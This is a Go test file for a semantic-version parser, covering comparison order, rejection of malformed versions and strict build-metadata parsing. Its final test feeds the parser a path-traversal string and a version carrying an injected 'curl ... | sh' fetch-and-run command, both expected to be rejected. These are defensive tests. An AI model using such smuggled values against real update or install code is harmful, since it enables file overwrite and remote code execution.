package semver

import "testing"

func TestVersionCompare(t *testing.T) {
	cases := []struct {
		a, b string
		want int
	}{
		{"1.0.0", "1.0.0", 0},
		{"v1.0.0", "1.0.0", 0},
		{"1.0.1", "1.0.0", 1},
		{"1.1.0", "1.0.9", 1},
		{"2.0.0", "1.99.99", 1},
		{"1.0.0", "1.0.0-rc.1", 1},
		{"1.0.0-rc.2", "1.0.0-rc.1", 1},
		{"1.0.0-rc.10", "1.0.0-rc.9", 1},
		{"1.0.0-beta", "1.0.0-alpha", 1},
		{"1.0.0-alpha.1", "1.0.0-alpha", 1},
		{"1.0.0-alpha", "1.0.0-1", 1},
		{"1.0.0+build.5", "1.0.0", 0},
		{"1.10.0", "1.9.0", 1},
	}
	for _, tc := range cases {
		a, err := Parse(tc.a)
		if err != nil {
			t.Fatalf("%s: %v", tc.a, err)
		}
		b, err := Parse(tc.b)
		if err != nil {
			t.Fatalf("%s: %v", tc.b, err)
		}
		if got := a.Compare(b); got != tc.want {
			t.Errorf("%s vs %s: got %d, want %d", tc.a, tc.b, got, tc.want)
		}
		if got := b.Compare(a); got != -tc.want {
			t.Errorf("%s vs %s: got %d, want %d", tc.b, tc.a, got, -tc.want)
		}
	}
}

func TestParseVersionRefuses(t *testing.T) {
	for _, s := range []string{"", "dev", "0.1.0~git4039e8c", "1.2", "1.2.3.4", "01.2.3", "1.2.3-", "1.2.3-a..b", "1.2.x", "0200a6e", "1.2.3-a_b"} {
		if _, err := Parse(s); err == nil {
			t.Errorf("Parse(%q): got no error, want one", s)
		}
	}
	if Newer("dev", "1.0.0") || Newer("1.0.0", "dev") {
		t.Error("an unparsable version must never be newer, nor be overtaken")
	}
}

// The build part follows the pre-release's rules: a version reaches a
// path (<state>/updates/<version>) and a shell hint (the .deb's), and the
// review found both reachable through "+".
func TestBuildMetadata(t *testing.T) {
	for _, s := range []string{"9.9.9+/../../victim", "1.2.3+;curl${IFS}x|sh", "1.2.3+", "1.2.3+a..b", "1.2.3+a b", "1.2.3-rc.1+x/y", "1.2.3+a+b", "1.2.3+..", `1.2.3+a\b`} {
		if v, err := Parse(s); err == nil {
			t.Errorf("Parse(%q): got %+v, want an error", s, v)
		}
	}
	for s, want := range map[string]string{"1.2.3+build.5": "1.2.3+build.5", "v1.2.3-rc.1+linux-x.05": "1.2.3-rc.1+linux-x.05"} {
		v, err := Parse(s)
		if err != nil || v.String() != want {
			t.Errorf("Parse(%q): got %q, %v, want %q", s, v.String(), err, want)
		}
	}
}
